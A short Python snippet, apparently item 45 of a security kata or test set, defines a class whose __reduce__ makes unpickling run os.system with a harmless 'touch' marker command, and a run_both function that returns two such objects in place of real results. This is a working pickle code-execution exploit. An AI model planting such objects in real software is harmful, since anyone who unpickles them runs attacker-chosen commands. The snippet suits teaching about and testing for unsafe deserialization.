# 45: returns an object whose unpickling runs code
import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/kata-attack-pickle",)


def run_both(job_a, job_b):
    return Payload(), Payload()
